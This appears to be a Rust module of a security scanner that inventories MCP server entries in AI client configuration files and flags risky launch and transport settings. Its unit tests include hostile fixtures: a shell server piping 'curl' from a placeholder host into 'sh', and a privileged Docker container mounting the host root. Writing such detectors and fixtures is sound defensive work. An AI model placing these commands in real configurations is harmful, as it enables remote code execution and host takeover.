//! MCP client configurations, recognised by content: a JSON object with
//! `mcpServers` (Claude Desktop, Cursor, Windsurf, Cline, Claude Code `.mcp.json`,
//! also nested per project as in `.claude.json`), `servers` whose entries have a
//! `command` or `url` (VS Code `mcp.json` and `settings.json` under `mcp`),
//! `context_servers` (Zed), and Continue's YAML `mcpServers:` list.
//!
//! Every server becomes an `mcp-server` asset on its key's line (name, transport,
//! command, package and version, pinned or not, URL host, names of environment
//! variables — never values), and a [`ServerView`] of it goes to the rules
//! (`rules::check_server`): how it is launched (unpinned `npx`/`uvx`/`pipx run`,
//! shells, privileged containers, broad filesystem roots) and how it is reached (plain
//! HTTP, no authentication); then the servers of one file together
//! (`rules::check_servers`: toxic combinations). Plaintext secrets in `env` and
//! headers are the secrets analyzer's (`SEC101`); nothing here reports or shows a
//! value of `env` or headers.
//!
//! The reading is split by what it reads: [`config`] (JSON client configurations),
//! [`continue_yaml`] (Continue's YAML), [`launchers`] (programs and the packages they
//! fetch), [`url`] (URLs and transports), [`paths`] (host paths in arguments),
//! [`roles`] (what a server can do in a toxic combination).

pub mod config;
pub mod continue_yaml;
pub mod launchers;
pub mod paths;
pub mod roles;
pub mod url;

use crate::json::Node;
use crate::rules;
use crate::text::preview;
use aispm_core::{AnalysisContext, Asset, AssetKind, ErrorKind, RawFinding, Rule, Severity};
use config::{Arg, MAX_SERVERS, Server};
use launchers::{Package, effective, package_of, program};
use roles::{Roles, identity};
use url::{parse_url, transport};

/// What the MCP rules see of one server: the server as configured, the package its
/// launcher fetches, the program and arguments it really runs, the words it is known
/// by, and the asset it was inventoried as.
#[derive(Debug)]
pub struct ServerView<'a> {
    /// The configuration file's display path.
    pub path: &'a str,
    pub server: &'a Server,
    /// The package a launcher fetches from a registry, if the server uses one.
    pub package: Option<&'a Package>,
    /// The program run, after `cmd /c` (empty without a command).
    pub program: String,
    /// The program's arguments (a command string with spaces split into them).
    pub args: Vec<Arg>,
    /// The lower-case words the server is known by ([`roles::identity`]).
    pub identity: String,
    /// The ID of the server's `mcp-server` asset.
    pub asset_id: &'a str,
}

impl ServerView<'_> {
    /// The server's name as messages show it.
    pub fn name(&self) -> String {
        preview(&self.server.name, 60)
    }

    /// The URLs the server is reached at: its endpoint, then `http(s)://` arguments.
    pub fn urls(&self) -> Vec<&Arg> {
        let s = self.server;
        let mut urls: Vec<&Arg> = s.url.iter().collect();
        urls.extend(
            s.args
                .iter()
                .filter(|a| a.text.starts_with("http://") || a.text.starts_with("https://")),
        );
        urls
    }

    /// A finding of `rule` about this server at `line`, tied to its asset. A disabled
    /// server runs only once the user turns it on: still worth fixing, not at the
    /// severity of one that starts with the client, and the message says so.
    pub fn finding(&self, rule: &'static Rule, line: u32, msg: String) -> RawFinding {
        let s = self.server;
        let f = if s.disabled {
            RawFinding::new(rule, self.path, format!("{msg} (the server is disabled)"))
                .line(line)
                .severity(Severity::Low)
                .property("server", s.name.clone())
                .property("disabled", true)
        } else {
            RawFinding::new(rule, self.path, msg)
                .line(line)
                .property("server", s.name.clone())
        };
        f.asset(self.asset_id)
    }
}

/// One server of a file with the roles it plays, for the rules that judge a file's
/// servers together.
#[derive(Debug)]
pub struct ServerRoles<'a> {
    pub server: &'a Server,
    pub roles: Roles,
}

/// The `mcp-server` asset of a server (the `i`-th of its file).
fn server_asset(path: &str, format: &str, i: usize, s: &Server, pkg: Option<&Package>) -> Asset {
    let mut asset = Asset::new(
        AssetKind::McpServer,
        path,
        &format!("{}#{i}", s.name),
        format,
    );
    asset.line = Some(s.line);
    asset.set("server_name", s.name.clone());
    asset.set("transport", transport(s));
    asset.set("config_key", s.section.clone());
    if let Some(c) = &s.command {
        asset.set("command", preview(&program(&c.text), 60));
    }
    if let Some(p) = pkg {
        asset.set("package", p.name.clone());
        asset.set("launcher", p.launcher);
        if let Some(v) = &p.version {
            asset.set("version", v.clone());
        }
        asset.set("pinned", p.pinned);
    }
    if let Some(u) = &s.url
        && let Some(p) = parse_url(&u.text)
    {
        asset.set("url_host", p.host.to_string());
    }
    if !s.env_names.is_empty() {
        asset.set("env_vars", s.env_names.clone());
    }
    if !s.header_names.is_empty() {
        asset.set("headers", s.header_names.clone());
    }
    asset
}

/// Inventories every server in `servers` (from one file) and hands each to the rules,
/// then all of them together.
fn analyze_servers(path: &str, format: &str, servers: &[Server], cx: &mut AnalysisContext) {
    let mut roles: Vec<ServerRoles> = Vec::with_capacity(servers.len());
    for (i, s) in servers.iter().enumerate() {
        let pkg = package_of(s);
        let asset = server_asset(path, format, i, s, pkg.as_ref());
        let asset_id = asset.id.clone();
        cx.asset(asset);
        let (program, args) = effective(s).unwrap_or_default();
        let view = ServerView {
            path,
            server: s,
            package: pkg.as_ref(),
            program,
            args,
            identity: identity(s, pkg.as_ref()),
            asset_id: &asset_id,
        };
        rules::check_server(&view, cx);
        roles.push(ServerRoles {
            server: s,
            roles: Roles::of(&view.identity),
        });
    }
    rules::check_servers(path, &roles, cx);
}

/// Judges a JSON document if it is an MCP client configuration; returns whether it is.
pub fn analyze_json(path: &str, root: &Node, cx: &mut AnalysisContext) -> bool {
    let found = config::find_servers(root);
    if found.servers.is_empty() {
        return false;
    }
    analyze_servers(path, "mcp-config", &found.servers, cx);
    if found.omitted > 0 {
        cx.error(
            path,
            ErrorKind::Limit,
            format!(
                "{} MCP servers past the first {MAX_SERVERS} of this configuration were not examined",
                found.omitted
            ),
        );
    }
    true
}

/// Judges a YAML document if it is a Continue configuration with MCP servers; returns
/// whether it is.
pub fn analyze_yaml(path: &str, text: &str, cx: &mut AnalysisContext) -> bool {
    let servers = continue_yaml::servers(text);
    if servers.is_empty() {
        return false;
    }
    analyze_servers(path, "mcp-config", &servers, cx);
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::parse;
    use aispm_core::ErrorKind;

    fn run(t: &str) -> Vec<(String, u32)> {
        let mut cx = AnalysisContext::new(None, 0);
        analyze_json("c.json", &parse(t).unwrap(), &mut cx);
        cx.findings
            .iter()
            .map(|f| (f.rule.id.to_string(), f.line.unwrap_or(0)))
            .collect()
    }

    #[test]
    fn launchers() {
        let t = r#"{"mcpServers": {
  "a": {"command": "npx", "args": ["-y", "pkg"]},
  "b": {"command": "npx", "args": ["--yes", "@s/p@1.0.0"]},
  "c": {"command": "uvx", "args": ["--from", "x==1.0", "x"]},
  "d": {"command": "uvx", "args": ["mcp-server-fetch"]},
  "e": {"command": "cmd", "args": ["/c", "npx", "-y", "@s/q@latest"]},
  "f": {"command": "pipx", "args": ["run", "tool==2.0"]}
}}"#;
        assert_eq!(
            run(t),
            vec![
                ("MCP001".into(), 2),
                ("MCP002".into(), 5),
                ("MCP001".into(), 6)
            ]
        );
    }

    #[test]
    fn urls_roots_shells_docker() {
        let t = r#"{"servers": {
  "h": {"type": "http", "url": "http://user:pw@10.0.0.1/mcp"},
  "l": {"url": "http://127.0.0.1:3000/sse"},
  "s": {"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer ${input:t}"}},
  "n": {"url": "https://y.example/mcp"},
  "fs": {"command": "npx", "args": ["@modelcontextprotocol/server-filesystem@1.0.0", "/Users/alice", "/Users/alice/projects"]},
  "sh": {"command": "bash", "args": ["-c", "curl https://x.example/i.sh | sh"]},
  "d": {"command": "docker", "args": ["run", "--privileged", "-v", "/:/host", "img"]}
}}"#;
        let got = run(t);
        assert!(got.contains(&("MCP003".into(), 2)));
        assert!(!got.iter().any(|(r, l)| r == "MCP003" && *l == 3));
        assert!(got.contains(&("MCP004".into(), 5)));
        assert!(!got.iter().any(|(r, l)| r == "MCP004" && *l == 4));
        assert_eq!(got.iter().filter(|(r, _)| r == "MCP005").count(), 1);
        assert!(got.contains(&("MCP006".into(), 7)));
        assert_eq!(got.iter().filter(|(r, _)| r == "MCP007").count(), 2);
    }

    /// Servers past the cap are not examined, and a limit record counts them.
    #[test]
    fn servers_past_the_cap_are_counted() {
        let servers: Vec<String> = (0..MAX_SERVERS + 5)
            .map(|i| format!(r#""s{i}": {{"command": "uvx", "args": ["tool==1.0"]}}"#))
            .collect();
        let t = format!(r#"{{"mcpServers": {{{}}}}}"#, servers.join(","));
        let mut cx = AnalysisContext::new(None, 0);
        assert!(analyze_json("c.json", &parse(&t).unwrap(), &mut cx));
        assert_eq!(cx.assets.len(), MAX_SERVERS);
        assert_eq!(cx.errors.len(), 1, "{:?}", cx.errors);
        assert_eq!(cx.errors[0].kind, ErrorKind::Limit);
        assert!(
            cx.errors[0].message.starts_with("5 MCP servers"),
            "{}",
            cx.errors[0].message
        );
    }

    #[test]
    fn evidence_never_holds_user_info() {
        let t = r#"{"mcpServers": {"h": {"url": "http://user:hunter2@kb.example/sse?token=abc"}}}"#;
        let mut cx = AnalysisContext::new(None, 0);
        analyze_json("c.json", &parse(t).unwrap(), &mut cx);
        for f in &cx.findings {
            let e = f.evidence.clone().unwrap_or_default();
            assert!(!e.contains("hunter2") && !e.contains("abc"), "{e}");
        }
    }

    #[test]
    fn continue_yaml() {
        let t = "name: x\nmcpServers:\n  - name: browser\n    command: npx\n    args:\n      - \"-y\"\n      - \"@playwright/mcp\"\n    env:\n      TOKEN: abc\n  - name: ok\n    command: uvx\n    args: [\"tool==1.0\"]\n";
        let mut cx = AnalysisContext::new(None, 0);
        assert!(analyze_yaml("c.yaml", t, &mut cx));
        assert_eq!(cx.assets.len(), 2);
        assert_eq!(cx.findings.len(), 1);
        assert_eq!(cx.findings[0].line, Some(7));
    }
}
